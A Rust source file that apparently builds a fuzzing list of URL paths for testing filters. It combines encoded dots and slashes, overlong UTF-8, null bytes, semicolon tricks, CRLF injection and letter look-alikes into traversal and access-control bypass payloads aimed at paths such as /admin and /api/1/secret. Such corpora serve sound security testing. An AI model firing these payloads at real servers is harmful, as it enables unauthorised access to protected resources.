//! Paths by which filters have been bypassed, systematically: ways up, between and around names.

use std::collections::BTreeSet;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

/// A dot, in one spelling after the other.
const DOTS: [&str; 13] = [
    ".",
    "%2e",
    "%2E",
    "%252e",
    "%25252E",
    "%c0%ae",
    "%c0%2e",
    "%e0%80%ae",
    "%u002e",
    "%25u002e",
    "%EF%BC%8E",
    "%E3%80%82",
    "%00.",
];

/// What is put behind two dots so that they are none to one of two readers.
const BEHIND: [&str; 16] = [
    "",
    ";",
    ";x=1",
    "%20",
    "%00",
    "%09",
    ".",
    "%20.",
    "+",
    "%C2%A0",
    "%E2%80%8B",
    "%0d",
    "%3b",
    "%23",
    "%3f",
    "%C2%85",
];

/// A slash, or what some take for one.
const SLASHES: [&str; 26] = [
    "/",
    "//",
    "/./",
    "%2f",
    "%2F",
    "%252f",
    "%25252f",
    "\\",
    "%5c",
    "%255C",
    "\\/",
    "%c0%af",
    "%e0%80%af",
    "%c1%9c",
    "%u002f",
    "%u2215",
    "%u2216",
    "%EF%BC%8F",
    "%EF%BC%BC",
    "%E2%81%84",
    "%C2%A5",
    "/;/",
    "/.;/",
    "/%20/",
    "/%2e/",
    "/%00/",
];

/// What is put behind a name.
const SUFFIXES: [&str; 58] = [
    "/",
    "//",
    "/.",
    "/./",
    "/..;/",
    ";",
    ";/",
    ";.css",
    ";a=b",
    "/;/x",
    "/;x",
    "%3b",
    "%3B.css",
    "%00",
    "%00.css",
    "%2500",
    "%0a",
    "%0d%0a",
    "%0d%0aX:%20y",
    "%09",
    "%20",
    "%20/",
    "%20%20",
    "+",
    "%2b",
    ".",
    "..",
    "./",
    "../",
    "%2e",
    "%2e/",
    "~",
    "%23",
    "%23/../x",
    "%3f",
    "%3f.css",
    "?",
    "??",
    "?/../public",
    "#",
    "#/public",
    "%2f",
    "%252f",
    "%5c",
    "\\",
    "*",
    "%ff",
    "%85",
    "%C2%85",
    "%C2%A0",
    "%E2%80%8B",
    "%E2%80%AE",
    "%EF%BB%BF",
    "%EF%BC%9Bx",
    "%EF%BC%9F",
    "%u0000",
    "::$DATA",
    "&",
];

/// What is put in front of a path.
const PREFIXES: [&str; 34] = [
    "/",
    "//",
    "///",
    "/.",
    "/./",
    "/.//",
    "/%2e/",
    "/%2e%2e/",
    "/../",
    "/;/",
    "/;x=y/",
    "/.;/",
    "/..;/",
    "\\",
    "/\\",
    "\\/",
    "/%20/",
    "/%20",
    "/%09/",
    "/%09",
    "/%00/",
    "/x/..",
    "/public/..",
    "/public/%2e%2e",
    "/public/..;",
    "/public;/..",
    "/public/.;/..",
    "/%EF%BB%BF",
    "/*/",
    "/~/",
    "/public?/..",
    "/public%3f/..",
    "/public#/..",
    "http://docs.example.com/public/..",
];

/// A letter, in one spelling after the other.
fn letter(letter: char) -> Vec<String> {
    let code = u32::from(letter);
    let distance = code - u32::from('a');
    let at = |first: u32| {
        let styled = char::from_u32(first + distance).expect("there are 26 of them");
        escaped(styled)
    };
    vec![
        letter.to_ascii_uppercase().to_string(),
        format!("%{code:x}"),
        format!("%{code:X}"),
        format!("%{:x}", code - 32),
        format!("%25{code:x}"),
        format!("%2525{code:x}"),
        format!("%u00{code:x}"),
        format!("%25u00{code:x}"),
        format!("%c1%{:x}", code + 0x40),
        at(0xff41),
        at(0x24d0),
        at(0x1d41a),
        format!("{letter}{}", escaped('\u{301}')),
        format!("{letter}{}", escaped('\u{200b}')),
        format!("{letter}{}", escaped('\u{ad}')),
        format!("{letter}%00"),
        format!("{letter}%0a"),
        format!("{letter}%C2%80"),
        format!("{letter}%"),
        format!("{letter}%zz"),
    ]
}

fn escaped(character: char) -> String {
    let mut bytes = [0; 4];
    utf8_percent_encode(character.encode_utf8(&mut bytes), NON_ALPHANUMERIC).to_string()
}

/// All of them, each once.
pub fn paths() -> Vec<String> {
    let mut all = BTreeSet::new();
    // Out of a public folder, and into a protected one: any two of slash, dot and what is behind.
    let mut up = |slash: &str, dot: &str, behind: &str| {
        all.insert(format!("/public{slash}{dot}{dot}{behind}{slash}admin/x"));
        all.insert(format!("/public/{dot}.{behind}{slash}admin{slash}x"));
    };
    for slash in SLASHES {
        for dot in DOTS {
            up(slash, dot, "");
        }
        for behind in BEHIND {
            up(slash, ".", behind);
        }
    }
    for dot in DOTS {
        for behind in BEHIND {
            up("/", dot, behind);
        }
    }
    for slash in SLASHES {
        for dot in DOTS {
            all.insert(format!("/docs{slash}{dot}{slash}internal{slash}x"));
            all.insert(format!("/api/1/open{slash}.{dot}{slash}secret"));
        }
        all.insert(format!("/admin{slash}x"));
        all.insert(format!("{slash}admin{slash}x"));
        all.insert(format!("/docs{slash}internal{slash}x"));
        all.insert(format!("/api{slash}1{slash}secret{slash}open"));
    }
    for path in
        ["/admin", "/admin/x", "/docs/internal", "/docs/internal/x", "/api/1/secret", "/lang/c"]
    {
        for suffix in SUFFIXES {
            all.insert(format!("{path}{suffix}"));
            all.insert(format!("{path}{suffix}/x"));
            all.insert(format!("{path}{suffix}/../x"));
        }
        for prefix in PREFIXES {
            all.insert(format!("{prefix}{path}"));
            all.insert(format!("{prefix}{}", path.trim_start_matches('/')));
        }
        for (at, given) in path.char_indices().filter(|(_, given)| given.is_ascii_lowercase()) {
            for other in letter(given) {
                all.insert(format!("{}{other}{}", &path[..at], &path[at + 1..]));
            }
        }
    }
    // Names with characters that are spelled in two ways.
    for name in [
        "c++",
        "c%2b%2B",
        "C++",
        "c+%2b",
        "c%20%20",
        "c++;",
        "[x]",
        "%5Bx%5d",
        "[x%5D",
        "caf%C3%A9",
        "cafe%CC%81",
        "CAF%C3%89",
        "caf%c3%89",
        "cafe",
        "caf%E9",
        "%EF%BD%83af%C3%A9",
        "%D0%B9",
        "%D0%99",
        "%D0%B8%CC%86",
    ] {
        all.insert(format!("/lang/{name}"));
        all.insert(format!("/lang/{name}/"));
    }
    all.into_iter().collect()
}
